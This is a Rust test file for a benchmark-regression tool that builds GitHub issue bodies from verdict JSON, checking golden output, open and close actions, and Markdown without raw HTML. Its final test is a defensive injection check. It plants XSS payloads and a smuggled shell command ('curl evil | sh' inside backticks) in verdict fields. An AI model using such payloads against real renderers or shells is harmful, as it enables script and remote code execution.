//! Issue 18: the body of the nightly regression issue, rendered from verdicts a real
//! `cargo xtask compare --confirm` wrote (`fixtures/make_verdict_fixtures.sh`): golden files with
//! a fixed date and run link (regenerate with `UPDATE_GOLDEN=1` and review the diff), the action
//! the workflow takes, and Markdown a viewer shows without raw HTML.

mod common;

use common::{fixture, golden};
use perfgate_report::compare::issue::{IssueAction, IssueContext, regression_issue};
use pulldown_cmark::{Event, Options, Parser};

fn context() -> IssueContext {
    IssueContext {
        run_url: Some("https://github.com/perfgate/perfgate/actions/runs/1".to_owned()),
        date: Some("2026-11-26".to_owned()),
    }
}

fn no_raw_html(markdown: &str) {
    for event in Parser::new_ext(markdown, Options::all()) {
        assert!(
            !matches!(event, Event::Html(_) | Event::InlineHtml(_)),
            "raw HTML in the issue body: {event:?}"
        );
    }
}

#[test]
fn a_confirmed_regression_opens_the_issue_with_its_verdict_table() {
    let issue = regression_issue(&fixture("verdict-regressed.json"), &context()).unwrap();
    assert_eq!(issue.action, IssueAction::Open);
    golden("issue-regressed.md", &issue.body);
    no_raw_html(&issue.body);
    // The slowed candidate's CPU per message is among the failing rows, with both medians.
    let verdict: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("verdict-regressed.json")).unwrap()).unwrap();
    let failing: Vec<&str> = verdict["metrics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["gate"] == "fail")
        .map(|m| m["id"].as_str().unwrap())
        .collect();
    assert!(
        !failing.is_empty(),
        "the fixture has no failing metric: remake it"
    );
    for id in failing {
        assert!(
            issue.body.contains(&format!("| `{id}` ")),
            "{id} missing from the table"
        );
    }
}

#[test]
fn a_pass_closes_it() {
    let issue = regression_issue(&fixture("verdict-recovered.json"), &context()).unwrap();
    assert_eq!(issue.action, IssueAction::Close);
    assert!(issue.body.starts_with("## ✅ Recovered"), "{}", issue.body);
    golden("issue-recovered.md", &issue.body);
    no_raw_html(&issue.body);
}

#[test]
fn hostile_text_in_a_verdict_stays_text() {
    let text = std::fs::read_to_string(fixture("verdict-regressed.json")).unwrap();
    let mut verdict: serde_json::Value = serde_json::from_str(&text).unwrap();
    let payload = "<img src=x onerror=alert(1)> [link](javascript:alert(1)) `x` | y";
    verdict["candidate"] = payload.into();
    verdict["base"] = format!("main`; curl evil | sh; `{payload}").into();
    for metric in verdict["metrics"].as_array_mut().unwrap() {
        metric["reason"] = payload.into();
        metric["verdict"] = payload.into();
        metric["unit"] = payload.into();
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("verdict.json");
    std::fs::write(&path, verdict.to_string()).unwrap();
    let issue = regression_issue(&path, &context()).unwrap();
    no_raw_html(&issue.body);
    let links: Vec<String> = Parser::new_ext(&issue.body, Options::all())
        .filter_map(|event| match event {
            Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) => Some(dest_url.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(links, ["https://github.com/perfgate/perfgate/actions/runs/1"]);
    let reproduce = issue.body.split("```sh\n").nth(1).unwrap();
    let line = reproduce.lines().next().unwrap();
    assert!(
        !line.contains(';') && !line.contains('|') && !line.contains('`'),
        "{line}"
    );
}
